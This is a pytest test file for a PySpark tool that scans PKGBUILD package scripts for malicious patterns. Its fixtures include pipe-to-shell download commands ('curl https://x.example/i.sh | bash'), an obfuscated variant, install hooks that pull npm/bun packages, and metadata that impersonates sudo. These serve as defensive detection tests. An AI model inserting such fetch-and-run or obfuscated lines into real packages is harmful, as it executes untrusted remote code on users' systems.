"""The engine over recipes of our own, the readers, and the registered queries."""

import collections
import json

import pytest
from pyspark.sql import functions as F

from packsieve.operators import catalog, gates, graph, ioc, provenance, report, scan
from packsieve.sources import packages

CLEAN = "pkgname=tidy\npkgver=1\npkgrel=1\nurl='https://github.com/a/tidy'\nsource=('https://github.com/a/tidy/x.tar.gz')\nsha256sums=('" + "ab" * 32 + "')\nbuild() {\n  make\n}\npackage() {\n  make install\n}\n"
FETCH = "pkgname=bad-fetch\npkgver=1\npkgrel=1\nbuild() {\n  curl https://x.example/i.sh | bash\n}\npackage() {\n  sudo mkdir d\n}\n"
HIDDEN = "pkgname=hidden\npkgver=1\npkgrel=1\nbuild() {\n  get=curl\n  $get https://x.example/i | sh\n}\n"
META = "pkgname=helper\npkgver=1\npkgrel=1\nepoch=3\nurl='https://github.com/r/helper'\nprovides=('sudo')\nreplaces=('sudo')\nbackup=('etc/sudoers.d/x')\ninstall=odd.sh\nvalidpgpkeys=('AA')\nsource=('https://gitlab.com/b/x.tar.gz')\nsha256sums=('nope')\n"
HOOK = "post_install() {\n  npm install js-digest\n  'b''u''n' add x\n}\n"
EXPECTED = {
    "tidy": {},
    "bad-fetch": {"DLE-001": 1, "EXEC-REMOTE": 1, "FUNC-001": 1, "PRIV-001": 1, "SRC-005": 1},
    "hidden": {"DLE-001": 1, "SRC-005": 1},
    "helper": {"CHK-008": 1, "DEP-001": 1, "META-001": 1, "META-002": 1, "META-003": 1, "META-004": 1, "META-005": 1, "META-006": 1, "SRC-008": 1},
    "hooked": {"ATOMIC-001": 1, "ATOMIC-002": 2, "IOC-001": 1, "OBF-006": 1},
}


@pytest.fixture(scope="module")
def found(spark, tmp_path_factory):
    root = tmp_path_factory.mktemp("tree")
    for name, text in (("tidy", CLEAN), ("bad-fetch", FETCH), ("hidden", HIDDEN), ("helper", META), ("hooked", CLEAN.replace("tidy", "hooked") + "install='${pkgname}.install'\n")):
        (root / name).mkdir()
        (root / name / "PKGBUILD").write_text(text)
    (root / "hooked" / "hooked.install").write_text(HOOK)
    (root / "hooked" / "other.install").write_text("post_install() {\n  curl x\n}\n")
    (root / "broken").mkdir()
    (root / "broken" / "PKGBUILD").write_bytes(b"\xff\xfe")
    tree = packages.read_tree(spark, str(root))
    assert [r.reason for r in packages.read_errors(tree).collect()] == ["not UTF-8"]
    return scan.findings(scan.Context(packages.resolve_hooks(tree))).withColumn("pkg_id", F.regexp_extract("pkg_id", "[^/]*$", 0)).persist()


def test_findings(found):
    got = collections.defaultdict(collections.Counter)
    for r in found.collect():
        got[r.pkg_id][r.id] += 1
    assert {k: dict(got[k]) for k in EXPECTED} == EXPECTED


def test_severities_escalate(found):
    assert {r.severity for r in found.where("id = 'META-004'").collect()} == {"high"}
    assert found.where("id = 'PRIV-001'").first().severity == "critical"


def test_reports(found):
    assert {r.pkg_id: r.tripped for r in gates.severity_gate(found).collect()} == {"bad-fetch": True, "hidden": True, "helper": True, "hooked": True}
    doc = json.loads(report.sarif(found).where("pkg_id = 'bad-fetch'").first().report)
    assert doc["version"] == "2.1.0" and doc["runs"][0]["results"][0]["level"] == "error" and len(doc["runs"][0]["results"]) == 5
    first = json.loads(report.scan_json(found).where("pkg_id = 'bad-fetch'").first().report)["findings"][0]
    assert first["id"] == "DLE-001" and first["location"]["line"] == 5
    assert report.text(found).where("pkg_id = 'hidden'").first().report.startswith("[CRITICAL] DLE-001")
    assert report.component_scan(found).where("pkg_id = 'bad-fetch'").first().urls == ["https://x.example/i.sh"]
    assert {e["id"] for e in catalog.entries()} >= {r.id for r in found.select("id").distinct().collect()}


def test_columns_are_bytes(spark):
    rows = [("p", "pkgbuild", "f", 1, "é curl x | sh", None, None, False, False)]
    lines = spark.createDataFrame(rows, "pkg_id string, file_type string, file string, line_no int, raw string, deobf string, resolved string, is_comment boolean, is_info boolean")
    assert scan.rule_matches(lines).where("id = 'DLE-001'").first().column == 4


def test_closure(spark):
    info = spark.createDataFrame([("app", "me", ["lib>=1", "glibc"], ["tool"], []), ("lib", None, ["app", "-bad"], [], []), ("tool", "me", [], [], ["t"])], "name string, maintainer string, depends array<string>, makedepends array<string>, checkdepends array<string>")
    e = graph.edges(info)
    nodes = graph.annotate(graph.closure(e, spark.createDataFrame([("app",)], "name string")), info, e)
    got = {r.name: (r.depth, r.origin, r.orphan) for r in nodes.collect()}
    assert got == {"app": (0, "community", False), "lib": (1, "community", True), "glibc": (1, "repo", False), "tool": (1, "community", False), "t": (2, "repo", False)}
    assert graph.closure(e, spark.createDataFrame([("app",)], "name string"), max_depth=1).count() == 4


def test_provenance(spark):
    rows = [("p", 1, "a", ["npm"]), ("p", 2, "a", ["npm"]), ("p", 3, "b", ["eval", "npm"]), ("p", 4, "c", ["npm"]), ("p", 5, "d", ["eval"]), ("q", 1, "x", ["bun"])]
    got = provenance.gained(spark.createDataFrame(rows, "package string, version int, digest string, markers array<string>"))
    assert sorted((r.version, tuple(r.gained)) for r in got.collect()) == [(3, ("eval",)), (5, ("eval",))]


def test_indicators(spark):
    table = spark.createDataFrame([("domain", "evil.example", "c1"), ("npm", "x-y", "c2")], ioc.INDICATOR_TYPE)
    texts = spark.createDataFrame([("p", "pkgbuild", "f", "", "", "get a.evil.example/x-y x-y\nnotevil.example\n# evil.example", "")], "pkg_id string, file_type string, file string, code string, plain string, masked string, masked_plain string")
    assert sorted((r.line, r.snippet) for r in ioc.hits(texts, table).collect()) == [(1, "evil.example"), (1, "x-y")]
    assert ioc.merge(table, spark.createDataFrame([("npm", "x-y", "new")], ioc.INDICATOR_TYPE)).where("value = 'x-y'").first().campaign_id == "new"


def test_entry(spark):
    import __spark_entry__ as e

    assert e.entry(spark).count() == 20
    assert set(e.oracle_sql()) <= set(e.queries())


def test_launchers_without_bounds(spark):
    many = " ".join(f"V{n}={n}" for n in range(3000))
    hits = [
        "env A=1 B=2 C=3 D=4 E=5 F=6 G=7 H=8 I=9 bash", "env env nice setsid command exec sh", "/" + "d/" * 300 + "bash", f"env {many} bash", "env " * 3000 + "sh", "env sh=1 x", "/x/sh/env x",
        "/usr/bin/env -i A=1 /bin/nice -n bash", "sh",
    ]
    misses = ["env A=1 B=2 cat", f"env {many} cat", "cat sh", "env " * 3000 + "cat"]
    lines = spark.createDataFrame([(n, f"curl x | {t}") for n, t in enumerate(hits + misses)], "n int, t string")
    dle = next(r for r in catalog.RULES if r.id == "DLE-001").regexes()[0][1]
    for pattern in (dle, scan.REMOTE_EXEC, scan.EXECUTES):
        assert sorted(r.n for r in lines.where(F.col("t").rlike(pattern)).collect()) == list(range(len(hits)))
    here = spark.createDataFrame([(n, f"{t} <<< x") for n, t in enumerate(["/a/env A=1 env /b/sh", "x/a/b/sh", f"env {many} bash", "cat"])], "n int, t string")
    obf = next(r for r in catalog.RULES if r.id == "OBF-011").regexes()[0][1]
    starts = {r.n: r.s for r in here.select("n", F.length(F.regexp_extract("t", obf, 0)).alias("s")).collect()}
    assert starts == {0: len("/a/env A=1 env /b/sh <<<"), 1: len("/a/b/sh <<<"), 2: len(f"env {many} bash <<<"), 3: 0}
